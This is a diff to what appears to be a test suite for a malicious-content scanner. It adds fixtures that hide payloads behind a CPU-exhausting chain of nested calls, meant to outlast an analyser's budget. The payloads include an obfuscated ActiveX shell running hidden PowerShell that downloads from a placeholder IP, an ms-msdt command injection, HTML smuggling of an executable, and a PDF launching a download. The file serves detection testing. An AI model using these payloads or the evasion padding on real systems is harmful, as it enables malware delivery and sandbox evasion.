@@ -23,6 +23,8 @@ const SMUGGLE = `var b=new Blob([Uint8Array.from(atob(p),c=>c.charCodeAt(0))]);v
 const ZIP = packed('a.exe', `MZ${'x'.repeat(2000)}`).toString('base64')
 const macro = (body: string, rest = ''): Buffer => macroDocument(`Sub AutoOpen()\r\n${body}\r\nEnd Sub\r\n${rest}`)
 const BUSY = 'var n=0;for(var i=0;i<400000;i++){n=n+i;}'
+/** Functions that call each other until nothing is left of what a script may take. */
+const BUSY_CALLS = `${times(9, (i) => `function b${i}(x){b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x)}`)}function b9(x){y=x}b0(z);`
 const BUSY_BASIC = 'For i = 1 To 60000\r\nFor j = 1 To 60\r\nx = x + 1\r\nNext\r\nNext\r\n'
 
 suite('after much else', () => {
@@ -37,6 +39,24 @@ suite('after much else', () => {
     ],
     ['a script after calls', packed('a.js', `${times(6_000, (i) => `f(${i});`)}${RUN}\n`)],
     ['a script after loops', packed('a.js', `${BUSY.repeat(5)}function g(){${RUN}}\ng()\n`)],
+    ['a script after many calls', packed('a.js', `${BUSY_CALLS}${RUN}`)],
+    [
+      'an object by another name after many calls',
+      packed(
+        'a.js',
+        `${BUSY_CALLS}new this["Active"+"XObject"]("WScript.Shell")["R"+"un"]("powershell -w hidden iwr http://192.0.2.1/a")`,
+      ),
+    ],
+    ['a copied text after many calls', page('<p>a</p>', `${BUSY_CALLS}${COPY}`)],
+    [
+      'an address after many calls',
+      page(
+        '<p>a</p>',
+        `${BUSY_CALLS}location.href=atob('${Buffer.from('ms-msdt:/id PCWDiagnostic /param "$(calc).exe"').toString('base64')}')`,
+      ),
+    ],
+    ['a file after many calls', page('<p>a</p>', `var p='${ZIP}';${BUSY_CALLS}${SMUGGLE}`)],
+    ['a script of a PDF after many calls', script(`${BUSY_CALLS}app.launchURL("http://192.0.2.1/a.exe")`)],
     [
       'a built script',
       packed(
